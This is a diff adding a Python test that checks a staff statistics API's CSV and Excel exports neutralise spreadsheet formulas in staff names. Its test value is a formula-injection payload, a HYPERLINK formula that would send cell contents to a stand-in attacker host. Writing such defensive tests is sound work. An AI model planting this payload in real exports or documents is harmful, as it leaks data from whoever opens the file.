@@ -79,3 +79,16 @@ def test_who_may_read_and_bad_queries(api):
     assert api.get("/stats/summary?from=2026-02-30", "manager").status_code == 422
     empty = api.get("/stats/summary?from=2026-01-01&to=2026-01-31", "manager").get_json()
     assert (empty["issued"], empty["service_level"], empty["group_by"]) == (0, None, None)
+
+
+def test_a_name_that_looks_like_a_formula_is_text_in_every_export(api, clock):
+    trap = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
+    who = {"name": trap, "badge": "0016", "role": "clerk"}
+    assert api.request("PUT", "/staff/clerk3", "manager", who).status_code == 200
+    serve_two(api, clock)
+    exported = api.get("/stats/export.csv?group_by=staff", "manager").get_data(as_text=True)
+    [row] = [r for r in csv.reader(io.StringIO(exported.lstrip("\ufeff"))) if trap in "".join(r)]
+    assert "'" + trap in row  # shown as text, not run
+    workbook = load_workbook(io.BytesIO(api.get("/stats/export.xlsx", "manager").get_data()))
+    cells = [c for row in workbook["工作人员"].iter_rows() for c in row if c.value == trap]
+    assert cells and all(c.data_type == "s" for c in cells)
